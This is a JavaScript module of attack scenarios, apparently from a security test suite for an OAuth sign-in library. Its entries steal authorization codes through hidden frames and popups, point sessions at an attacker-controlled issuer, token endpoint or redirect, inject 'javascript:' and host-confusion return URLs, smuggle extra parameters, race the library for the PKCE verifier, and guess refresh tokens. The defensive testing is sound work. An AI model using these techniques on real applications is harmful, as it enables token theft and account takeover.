// Sign-ins of the attacker's own, and those of the app.
import { codeIn, hiddenFrame, listen, onNavigation, soon, transactionUnderWay, wait } from '../kit.mjs';
import { onPagesOrigin, whenever } from '../reasons.mjs';

const OWN_FLOW = { lost: { after: onPagesOrigin('flow') } };

/** Resolves with the code that `frame` posts. */
const posted = (frame, undo) =>
  new Promise((resolve) => {
    const hear = ({ source, data }) => {
      if (source === frame.contentWindow && data?.response) resolve(data.response.code);
    };
    listen(window, 'message', hear, undo);
  });

/** An attack that signs in silently by itself, with these parameters; `codeFrom` goes to a URL and gives the code that comes. */
const silently = (id, where, parameters, codeFrom) => ({
  id: `flow-silent-${id}`,
  title: `signs in silently by itself, ${where}, and redeems the code`,
  when: 'after',
  async run({ thief, undo, config }) {
    const { url, verifier, redirectUri } = await thief.request({ prompt: 'none', ...parameters(config) });
    await thief.redeem(await codeFrom(url, undo), verifier, redirectUri);
  },
  ...OWN_FLOW,
});

/** A session of the attacker's own, from the app's package, that is signed in silently. */
async function ownSession(options, undo) {
  const { createSession } = await import('/strongroom/index.js');
  const own = createSession({ ...options, vault: 'worker' });
  undo(() => own.close());
  await Promise.race([own.ready, wait(4000)]);
  return own;
}

export const flows = [
  silently(
    'message',
    'in a hidden frame that answers by message',
    () => ({ response_mode: 'web_message' }),
    (url, undo) => Promise.race([posted(hiddenFrame(url, undo), undo), wait(4000)]),
  ),
  silently(
    'callback',
    'in a hidden frame whose URL it reads',
    ({ callback }) => ({ response_mode: 'query', redirect_uri: callback }),
    (url, undo) => codeIn(hiddenFrame(url, undo).contentWindow),
  ),
  silently(
    'fragment',
    'in a popup that is answered in the fragment',
    ({ callback }) => ({ response_mode: 'fragment', redirect_uri: callback }),
    (url, undo) => {
      const popup = window.open(url);
      undo(() => popup?.close());
      return codeIn(popup, 'hash');
    },
  ),
  {
    id: 'flow-implicit',
    title: 'asks the provider for tokens in the URL, by the implicit flow',
    when: 'after',
    async run({ thief, undo, record, config }) {
      for (const response_type of ['token', 'id_token', 'id_token token', 'code id_token']) {
        const redirect_uri = config.callback;
        const { url } = await thief.request({ prompt: 'none', response_type, redirect_uri });
        const frame = hiddenFrame(url, undo);
        record(await soon(() => frame.contentWindow.location.hash, 400));
      }
    },
  },
  {
    id: 'flow-second-session',
    title: 'creates a session of its own, with its own server among the APIs',
    when: 'after',
    async run({ options, config, undo }) {
      const apis = [{ url: config.attacker, resource: config.api, scope: 'read:orders' }];
      const own = await ownSession({ ...options, apis }, undo);
      await own.fetch(config.attacker);
    },
    ...OWN_FLOW,
  },
  {
    id: 'flow-evil-metadata',
    title: 'creates a session of its own whose metadata names its own server as token endpoint',
    when: 'after',
    async run({ options, config, undo, thief }) {
      const metadata = { ...(await thief.metadata()), token_endpoint: `${config.attacker}token` };
      await ownSession({ ...options, metadata }, undo);
    },
    ...OWN_FLOW,
  },
  {
    id: 'flow-evil-issuer',
    title: 'creates a session of its own at an issuer of its own, and has the vault ask there',
    when: 'after',
    async run({ options, config, undo }) {
      await Promise.race([ownSession({ ...options, issuer: config.attacker.slice(0, -1) }, undo), wait(1500)]);
    },
  },
  {
    id: 'flow-redirect-elsewhere',
    title: 'asks for a redirect to its own server, of the package and of the provider',
    when: 'after',
    async run({ options, config, undo, record, thief }) {
      for (const name of ['redirectUri', 'postLogoutRedirectUri']) {
        try {
          await ownSession({ ...options, [name]: config.attacker }, undo);
        } catch (error) {
          record(error);
        }
      }
      for (const redirect_uri of [config.attacker, `${location.origin}/callback.html/../..//${config.attacker}`]) {
        const { url } = await thief.request({ prompt: 'none', response_mode: 'query', redirect_uri });
        hiddenFrame(url, undo);
      }
      await wait(300);
    },
  },
  {
    id: 'flow-parameters',
    title:
      'passes parameters of its own to signIn and checkSession: redirect_uri, response_type, code_challenge, claims',
    when: 'after',
    async run({ session, config, record, victim }) {
      const app = await session();
      const tries = [
        { redirect_uri: config.attacker },
        { response_type: 'token' },
        { response_mode: 'form_post' },
        { code_challenge: 'x'.repeat(43), code_challenge_method: 'plain' },
        { request: 'eyJhbGciOiJub25lIn0.e30.' },
        { 'redirect_uri ': config.attacker, Redirect_URI: config.attacker },
        { 'x&redirect_uri': config.attacker },
      ];
      for (const params of tries) {
        for (const call of [app.checkSession, app.signIn]) {
          if (call === app.signIn && Object.keys(params).every((name) => /[ &A-Z]/.test(name))) continue;
          try {
            record(await call({ params }));
          } catch (error) {
            record(error);
          }
        }
      }
      await victim('fetch');
    },
  },
  {
    id: 'flow-return-to',
    title: 'has the app return to its own server, or to a javascript: URL',
    when: 'after',
    async run({ session, config, record }) {
      const app = await session();
      const urls = [
        config.attacker,
        `//${new URL(config.attacker).host}/`,
        'javascript:alert(1)',
        'data:text/html,x',
        `\\\\${new URL(config.attacker).host}/`,
        `${location.origin}@${new URL(config.attacker).host}/`,
      ];
      for (const returnTo of urls) await app.signIn({ returnTo }).catch(record);
      const asks = [
        `?iss=${config.attacker}`,
        `?iss=${encodeURIComponent(config.issuer)}&target_link_uri=${encodeURIComponent(config.attacker)}`,
      ];
      for (const ask of asks) await app.initiateLogin(ask).catch(record);
    },
  },
  {
    id: 'flow-redirect-race',
    // Sometimes the vault is quicker: what may be lost counts as lost.
    races: true,
    title:
      'stays for a redirect sign-in: takes the code from the performance entry, the verifier from IndexedDB, and is quicker than the vault',
    when: 'both',
    async run({ session, leaving, when, victim }) {
      const app = await session();
      if (when === 'before') await victim('fetch');
      await leaving();
      await app.signIn();
      await new Promise(() => {});
    },
    async returns({ thief, record }) {
      const [{ name }] = performance.getEntriesByType('navigation');
      record([name, location.href]);
      const { searchParams } = new URL(name);
      const transaction = await soon(() => transactionUnderWay(searchParams.get('state')), 300);
      if (transaction) {
        record(transaction);
        await thief.redeem(searchParams.get('code'), transaction.code_verifier, transaction.redirect_uri);
      }
    },
    lost: whenever(onPagesOrigin('redirect')),
  },
  {
    id: 'flow-redirect-callback',
    title: 'waits in the page that a redirect comes back to, and reads URL, history and referrer',
    when: 'after',
    async run({ session, leaving }) {
      const app = await session();
      await leaving();
      await app.signIn();
      await new Promise(() => {});
    },
    async returns({ record, victim }) {
      record([location.href, document.URL, document.referrer, history.state]);
      for (const entry of window.navigation?.entries() ?? []) record(entry.url);
      for (const entry of performance.getEntries()) record(entry.name);
      await victim();
      record(performance.getEntries().map(({ name }) => name));
    },
  },
  {
    id: 'flow-sign-out',
    title: 'signs the user out at the provider, and reads where the page is sent',
    when: 'both',
    signsOut: true,
    async run({ record, session, undo, victim }) {
      const leave = (event) => {
        record(event.destination.url);
        event.preventDefault();
      };
      onNavigation(leave, undo);
      await victim('fetch');
      const app = await session();
      await Promise.race([app.signOut().catch(record), wait(1500)]);
    },
    lost: whenever(onPagesOrigin('signOut')),
  },
  {
    id: 'flow-sign-out-local',
    title: 'signs the user out here, and looks at what is revoked and forgotten',
    when: 'both',
    offline: true,
    async run({ record, session, tap, victim }) {
      tap(MessageEvent.prototype, 'data');
      await victim('fetch');
      const app = await session();
      record(await app.signOut({ local: true, revoke: true }));
      record(app.state);
      await wait(100);
    },
  },
  {
    id: 'flow-refresh',
    title: 'asks the token endpoint for tokens by itself: guessed refresh tokens, other grants, the user’s cookies',
    when: 'after',
    offline: true,
    async run({ record, thief, config, victim }) {
      const { token_endpoint } = await thief.metadata();
      for (const parameters of [
        { grant_type: 'refresh_token', refresh_token: 'guess' },
        { grant_type: 'client_credentials' },
        { grant_type: 'password', username: 'ada', password: 'guess' },
        { grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange', subject_token: 'guess' },
      ]) {
        const body = new URLSearchParams({ client_id: config.clientId, ...parameters });
        for (const credentials of ['include', 'omit']) {
          record(await fetch(token_endpoint, { method: 'POST', body, credentials }).catch((error) => error));
        }
      }
      await victim();
    },
  },
];
